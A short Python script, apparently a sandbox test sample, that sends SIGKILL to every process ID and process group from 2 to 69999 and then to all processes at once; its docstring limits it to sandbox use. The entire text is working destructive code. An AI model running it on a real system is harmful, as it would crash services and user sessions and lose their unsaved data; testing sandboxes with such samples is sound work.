"""Kills every process that it can, by number, by group and all at once.

only in a sandbox
"""

import os
import signal

for number in range(2, 70000):
    try:
        if number != os.getpid():
            os.kill(number, signal.SIGKILL)
            os.kill(-number, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)
